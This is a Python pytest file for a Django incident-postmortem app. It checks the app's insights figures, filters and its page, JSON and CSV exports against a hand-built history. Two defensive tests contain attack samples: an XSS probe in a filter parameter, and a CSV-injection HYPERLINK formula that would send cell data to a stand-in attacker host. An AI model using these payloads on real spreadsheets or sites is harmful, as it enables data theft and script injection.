"""Learning insights on a small history built by hand (docs/rules.md#insights): every
figure is checked against the numbers worked out here, in the comments."""
import csv
import io
from collections import Counter
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
import time_machine

from costlog import services as costlog
from costlog.models import RootPattern
from incidents import action_items, meetings, services
from incidents.meetings import AttendeeInput
from incidents.models import Postmortem
from knowledge import insights
from tests.conftest import NOW, fill_complete_draft, make_user
from tests.git_clones import make_clone

pytestmark = pytest.mark.django_db


def at(*args) -> datetime:
    return datetime(*args, tzinfo=UTC)


def postmortem(alice, bob, *, event, meeting, final, root_cause, domain, severity=""):
    """A postmortem whose event, meeting start and finalize happen at those UTC times."""
    with time_machine.travel(event + timedelta(minutes=30), tick=False):
        pm = fill_complete_draft(services.create_draft(alice, occurred_utc=event,
                                                       trigger="drawdown"))
        pm.root_cause, pm.severity = root_cause, severity
        pm.save(update_fields=["root_cause", "severity"])
        held = meetings.schedule_meeting(pm, meeting, alice, [
            AttendeeInput(alice, "operator"), AttendeeInput(bob, "code_owner")])
    with time_machine.travel(meeting, tick=False):
        meetings.start_meeting(held, alice, now=meeting)
    with time_machine.travel(final, tick=False):
        pm = services.finalize(Postmortem.objects.get(pk=pm.pk), alice)
        services.set_domain(pm, domain, user=alice)
    return pm


def entry(pattern, occurred, usd, pm=None):
    return costlog.record_entry(costlog.EntryInput(
        occurred_utc=occurred, logged_zone="UTC", title=f"{pattern.name} mishap",
        what_happened="It happened.", root_cause="A cause.", patterns=[pattern],
        cost_low_usd=Decimal(usd), cost_high_usd=Decimal(usd), postmortem=pm))


@pytest.fixture
def history(root_patterns, tmp_path, settings):
    alice, bob = make_user("alice"), make_user("bob")
    clone = tmp_path / "launcher"
    head = make_clone(clone, {"watchdog.py": "print(1)\n"})
    settings.SCARLOG_GIT_REPOS = {"launcher": str(clone)}
    silent, retry = root_patterns["Silent fallback"], root_patterns["Unverified deployment"]

    # A (trading, correctness): meeting 24 h after the event, its one item ships (verified)
    # 96 h after finalize.
    a = postmortem(alice, bob, event=at(2026, 1, 5, 10), meeting=at(2026, 1, 6, 10),
                   final=at(2026, 1, 6, 12), root_cause="correctness", domain="trading",
                   severity="SEV2")
    with time_machine.travel(at(2026, 1, 6, 12, 30), tick=False):
        hook = action_items.add_item(a, "hook", "Watchdog", alice, date(2026, 1, 20))
    with time_machine.travel(at(2026, 1, 10, 12), tick=False):
        action_items.ship_item(hook, {"hook_file": "watchdog.py", "repository": "launcher",
                                      "commit_sha": head})
    # B (trading, correctness): after A's fix, the same domain and root pattern: it
    # recurred. Meeting 96 h after the event; its item is open and overdue.
    b = postmortem(alice, bob, event=at(2026, 2, 10, 9), meeting=at(2026, 2, 14, 9),
                   final=at(2026, 2, 14, 10), root_cause="correctness", domain="trading",
                   severity="SEV2")
    with time_machine.travel(at(2026, 2, 14, 10, 30), tick=False):
        action_items.add_item(b, "test", "Fallback test", alice, date(2026, 3, 1))
    # C (ml, cost): another pattern; one item dropped, one shipped without a repository,
    # the last 48 h after finalize. Meeting 36 h after the event.
    c = postmortem(alice, bob, event=at(2026, 2, 20, 8), meeting=at(2026, 2, 21, 20),
                   final=at(2026, 2, 21, 21), root_cause="cost", domain="ml", severity="SEV3")
    with time_machine.travel(at(2026, 2, 21, 21, 30), tick=False):
        dropped = action_items.add_item(c, "rule", "Budget rule", alice, date(2026, 3, 20))
        shipped = action_items.add_item(c, "memory", "Memory note", alice, date(2026, 3, 20))
    with time_machine.travel(at(2026, 2, 22, 12), tick=False):
        action_items.drop_item(dropped, "Superseded by the budget hook")
    with time_machine.travel(at(2026, 2, 23, 21), tick=False):
        action_items.ship_item(shipped, {"memory_file": "memory/budget.md",
                                         "last_modified_utc": "2026-02-23T20:00:00Z"})
    # The cost log: Silent fallback cost $200 in November (before A), $100 with A in
    # January (the fix month) and $300 with B in February; Unverified deployment $50 with C.
    entry(silent, at(2025, 11, 3, 9), "200")
    entry(silent, at(2026, 1, 5, 10), "100", a)
    entry(silent, at(2026, 2, 10, 9), "300", b)
    entry(retry, at(2026, 2, 20, 8), "50", c)
    return {"a": a, "b": b, "c": c}



def test_every_figure_matches_the_history_worked_out_by_hand(history):
    result = insights.compute(insights.Filters(), NOW)
    assert result.postmortems == 3
    assert result.by_root_cause == {"2026-01": {"correctness": 1},
                                    "2026-02": {"correctness": 1, "cost": 1}}
    assert result.by_domain == {"2026-01": {"trading": 1}, "2026-02": {"trading": 1, "ml": 1}}
    # Event to meeting: 24, 96, 36 h → median 36, p90 (nearest rank 3 of 3) 96, 2 of 3 ≤ 72.
    assert result.event_to_meeting == insights.Distribution(3, 36.0, 96.0, 0.6667)
    # Finalize to close-out: A 96 h, C 48 h (B is not closed) → median 72, p90 96, 1 of 2.
    assert result.finalize_to_closeout == insights.Distribution(2, 72.0, 96.0, 0.5)
    # Items: A's hook (shipped, verified), B's test (open, due 1 March: overdue on 9 March),
    # C's rule (dropped) and memory (shipped, no repository).
    assert result.items == {"total": 4, "open": 1, "shipped": 2, "shipped_verified": 1,
                            "dropped": 1, "overdue": 1}
    assert result.verified_share == 0.25
    backlog = dict(result.backlog)
    assert (result.backlog[0][0], result.backlog[-1][0]) == ("2026-01-05", "2026-03-09")
    assert len(backlog) == 10
    # Week of 5 Jan: A's hook opened and shipped → 0. Week of 16 Feb: B's test and C's
    # memory note open at its end (C's rule was dropped on the 22nd) → 2.
    assert (backlog["2026-01-05"], backlog["2026-02-09"], backlog["2026-02-16"],
            backlog["2026-02-23"], backlog["2026-03-09"]) == (0, 1, 2, 1, 1)
    assert result.backlog_trend == ("Steady: 1 open now, 1 at the end of the week of "
                                    "2026-02-09.")
    # B recurred after A's fix; C shares no domain-and-pattern with anything.
    assert [(r.earlier.pk, r.later.pk, r.shared) for r in result.recurrences] == [
        (history["a"].pk, history["b"].pk, ["Silent fallback"])]
    assert result.recurrences_by_pattern == [("Silent fallback", 1)]
    # Silent fallback: first fix January (A closed 10 Jan). Before: November and December,
    # $200 + $0 → $100/month. After: February and March, $300 + $0 → $150/month.
    # Unverified deployment: fixed in February (C closed 23 Feb); nothing before the fix
    # month, March after it at $0.
    rows = {row.pattern: row for row in result.cost_before_after}
    assert rows["Silent fallback"] == insights.CostBeforeAfter(
        "Silent fallback", "2026-01", 2, Decimal("100.00"), Decimal("100.00"),
        2, Decimal("150.00"), Decimal("150.00"))
    assert rows["Unverified deployment"] == insights.CostBeforeAfter(
        "Unverified deployment", "2026-02", 0, None, None, 1, Decimal("0.00"),
        Decimal("0.00"))


def test_filters_narrow_the_population_but_recurrence_reads_the_whole_archive(history):
    february = insights.compute(insights.Filters(start="2026-02", end="2026-02"), NOW)
    assert february.postmortems == 2
    assert [(r.earlier.pk, r.later.pk) for r in february.recurrences] == [
        (history["a"].pk, history["b"].pk)]
    trading = insights.compute(insights.Filters(domain="trading"), NOW)
    assert trading.postmortems == 2 and trading.items["total"] == 2
    cost = insights.compute(insights.Filters(root_cause="cost"), NOW)
    assert cost.postmortems == 1 and cost.recurrences == []
    assert cost.event_to_meeting == insights.Distribution(1, 36.0, 36.0, 1.0)


def test_the_severity_filter_narrows_every_figure(history):
    # SEV2 is A and B (A and B are SEV2, C is SEV3).
    sev2 = insights.compute(insights.Filters(severity="SEV2"), NOW)
    assert sev2.postmortems == 2
    assert sev2.by_root_cause == {"2026-01": {"correctness": 1}, "2026-02": {"correctness": 1}}
    assert sev2.by_domain == {"2026-01": {"trading": 1}, "2026-02": {"trading": 1}}
    # Event to meeting 24 and 96 h → median 60, p90 (nearest rank 2 of 2) 96, 1 of 2 ≤ 72.
    assert sev2.event_to_meeting == insights.Distribution(2, 60.0, 96.0, 0.5)
    # Only A closed out: 96 h after finalize, not within 72 h.
    assert sev2.finalize_to_closeout == insights.Distribution(1, 96.0, 96.0, 0.0)
    # A's hook (shipped, verified) and B's test (open, overdue).
    assert sev2.items == {"total": 2, "open": 1, "shipped": 1, "shipped_verified": 1,
                          "dropped": 0, "overdue": 1}
    assert sev2.verified_share == 0.5
    assert [(r.earlier.pk, r.later.pk) for r in sev2.recurrences] == [
        (history["a"].pk, history["b"].pk)]
    # SEV3 is C alone: meeting after 36 h, closed out 48 h after finalize; its rule
    # dropped, its memory note shipped without a repository (not verified).
    sev3 = insights.compute(insights.Filters(severity="SEV3"), NOW)
    assert sev3.postmortems == 1 and sev3.recurrences == []
    assert sev3.event_to_meeting == insights.Distribution(1, 36.0, 36.0, 1.0)
    assert sev3.finalize_to_closeout == insights.Distribution(1, 48.0, 48.0, 1.0)
    assert sev3.items == {"total": 2, "open": 0, "shipped": 1, "shipped_verified": 0,
                          "dropped": 1, "overdue": 0}
    assert sev3.verified_share == 0.0
    assert insights.compute(insights.Filters(severity="SEV1"), NOW).postmortems == 0


def test_the_severity_filter_on_the_page_json_and_csv(alice_app, history):
    with time_machine.travel(NOW, tick=False):
        form = alice_app("/insights/").forms["insights-filters"]
        form["severity"] = "SEV3"
        page = form.submit()
        assert "1 finalized postmortem in view" in text_of(page)
        assert "Event to meeting 1 36 h 36 h 100%" in page.html.select_one(
            "#table-times").get_text(" ", strip=True)
        assert page.html.select_one("#i-severity option[selected]")["value"] == "SEV3"
        data = alice_app("/insights.json?severity=SEV2").json
        assert data["filters"]["severity"] == "SEV2"
        assert (data["postmortems"], data["action_items"]["share_shipped_verified"]) == (2, 0.5)
        rows = list(csv.reader(io.StringIO(alice_app("/insights.csv?severity=SEV2").text)))
        assert ["postmortems", "total", "", "2"] in rows
        assert ["finalize_to_closeout", "median_hours", "", "96.0"] in rows


def text_of(page) -> str:
    return " ".join(page.html.get_text(" ", strip=True).split())


@pytest.fixture
def alice_app(django_app, history):
    from django.contrib.auth import get_user_model
    return lambda url, **kw: django_app.get(url, user=get_user_model().objects.get(
        username="alice"), **kw)


def test_the_page_json_and_csv_show_the_same_figures(alice_app, history):
    with time_machine.travel(NOW, tick=False):
        page = alice_app("/insights/")
        assert "3 finalized postmortems in view" in text_of(page)
        times = page.html.select_one("#table-times").get_text(" ", strip=True)
        assert "Event to meeting 3 36 h 4 d 67%" in times
        assert "Finalize to close-out 2 3 d 4 d 50%" in times
        assert page.html.select("svg.insight-chart rect")  # the chart is drawn server-side
        assert not page.html.select("svg script")
        recurrences = page.html.select_one("#table-recurrences").get_text(" ", strip=True)
        assert "Silent fallback" in recurrences
        cost = page.html.select_one("#table-cost-before-after").get_text(" ", strip=True)
        assert "$100–$100" in cost and "$150–$150" in cost
        # The filter form the page renders, submitted as rendered with one change.
        form = page.forms["insights-filters"]
        form["domain"] = "ml"
        narrowed = form.submit()
        assert "1 finalized postmortem in view" in text_of(narrowed)
        data = alice_app("/insights.json?from=2026-02").json
        assert data["postmortems"] == 2
        assert data["event_to_meeting"] == {"count": 2, "median_hours": 66.0,
                                            "p90_hours": 96.0, "share_within_72_hours": 0.5}
        assert data["recurrences"] == [{"postmortem": str(history["b"].pk),
                                        "recurred_after": str(history["a"].pk),
                                        "shared": ["Silent fallback"]}]
        rows = list(csv.reader(io.StringIO(alice_app("/insights.csv").text)))
        assert rows[0] == ["section", "key", "detail", "value"]
        assert ["action_items", "overdue", "", "1"] in rows
        assert ["cost_after_fix_usd_per_month", "Silent fallback", "high", "150.00"] in rows


def test_both_postmortem_pages_link_the_recurrence(alice_app, history):
    with time_machine.travel(NOW, tick=False):
        later = alice_app(f"/postmortems/{history['b'].pk}/")
        box = later.html.select_one("section.recurrence").get_text(" ", strip=True)
        assert "This incident recurred after the fix of" in box and "Silent fallback" in box
        assert later.html.select_one(f"section.recurrence a[href='/postmortems/"
                                     f"{history['a'].pk}/']")
        earlier = alice_app(f"/postmortems/{history['a'].pk}/")
        assert earlier.html.select_one(f"section.recurrence a[href='/postmortems/"
                                       f"{history['b'].pk}/']")
        assert not alice_app(f"/postmortems/{history['c'].pk}/").html.select("section.recurrence")


@pytest.mark.parametrize("query, field", [
    ("from=2026-13", "from"), ("to=0000-01", "to"), ("from=2026-03&to=2026-01", "to"),
    ("domain=<script>alert(1)</script>", "domain"), ("root_cause=blame", "root_cause"),
    ("from=9" * 5000, "from"), ("severity=SEV9", "severity"),
])
def test_a_filter_it_cannot_use_is_a_400_naming_it_never_reflected(alice_app, query, field):
    page = alice_app(f"/insights/?{query}", status=400)
    assert page.html.select_one("p.error").text.startswith(f"{field}:")
    assert "<script>alert" not in page.text
    data = alice_app(f"/insights.json?{query}", status=400).json
    assert data["field"] == field


def test_imported_records_without_an_event_time_count_from_their_earliest_timeline_entry(
        root_patterns):
    import json

    from django.core.management import call_command

    from tests.conftest import TEST_DATA
    call_command("import_postmortems", str(TEST_DATA / "postmortems.jsonl"))
    records = [json.loads(line) for line in
               (TEST_DATA / "postmortems.jsonl").read_text().splitlines() if line.strip()]
    expected = Counter(min(row["utc"] for row in record["timeline"])[:7] for record in records)
    result = insights.compute(insights.Filters(), NOW)
    assert result.postmortems == len(records) == 8
    assert {month: sum(counts.values()) for month, counts in result.by_root_cause.items()} \
        == dict(expected)


def test_a_root_pattern_named_like_a_formula_reaches_both_csvs_as_text(django_app, history):
    # A spreadsheet opening an exported CSV runs a cell that starts with = + - @ as a
    # formula (OWASP: CSV injection). An admin may name a root pattern anything; both
    # exports write such a name as text (a leading apostrophe), never as a formula.
    admin = make_user("root", role="admin", is_staff=True, is_superuser=True)
    pattern = RootPattern.objects.get(name="Silent fallback")
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Silent fallback")'
    form = django_app.get(f"/admin/costlog/rootpattern/{pattern.pk}/change/",
                          user=admin).forms["rootpattern_form"]
    form["name"] = formula
    form.submit().follow()
    with time_machine.travel(NOW, tick=False):
        insights_rows = list(csv.reader(io.StringIO(
            django_app.get("/insights.csv", user=admin).text)))
        cost_rows = list(csv.reader(io.StringIO(
            django_app.get("/costs/totals.csv?period=all", user=admin).text)))
    names = {row[1] for row in insights_rows if row[0].startswith("cost_")}
    assert "'" + formula in names and formula not in names
    assert "'" + formula in {row[0] for row in cost_rows}
    assert not any(cell.startswith(("=", "+", "@")) for row in insights_rows + cost_rows
                   for cell in row)


@pytest.mark.parametrize("query, field", [
    ("domain=%00", "domain"), ("root_cause=cost%00", "root_cause"),
    ("severity=%00SEV1", "severity"),
    ("months=3", "months"), ("domain=trading&domain=ml", "domain"), ("from=2026-02", None),
])
def test_each_form_refuses_in_its_own_form_naming_the_parameter(alice_app, query, field):
    # A script reading /insights.json gets JSON, a spreadsheet reading /insights.csv gets
    # text, a person gets the page: each names the parameter, never a figure unfiltered.
    with time_machine.travel(NOW, tick=False):
        if field is None:  # a filter the page takes is answered in all three forms
            assert alice_app(f"/insights.json?{query}").json["postmortems"] == 2
            assert alice_app(f"/insights.csv?{query}").content_type == "text/csv"
            return
        data = alice_app(f"/insights.json?{query}", status=400)
        assert data.content_type == "application/json" and data.json["field"] == field
        text = alice_app(f"/insights.csv?{query}", status=400)
        assert text.content_type == "text/plain" and text.text.startswith(f"{field}:")
        page = alice_app(f"/insights/?{query}", status=400)
        assert page.html.select_one("p.error").text.startswith(f"{field}:")
        if field == "months":
            assert "the filters are from, to, domain, root_cause, severity" in data.json["error"]


def test_the_filter_form_and_its_links_send_only_filters(alice_app, history):
    # Submitting the rendered form, then following its JSON and CSV links, never meets the
    # unknown-parameter refusal.
    with time_machine.travel(NOW, tick=False):
        form = alice_app("/insights/").forms["insights-filters"]
        form["domain"] = "trading"
        page = form.submit()
        assert page.status_code == 200
        for name in ("JSON", "CSV"):
            assert page.click(linkid=None, description=name).status_code == 200
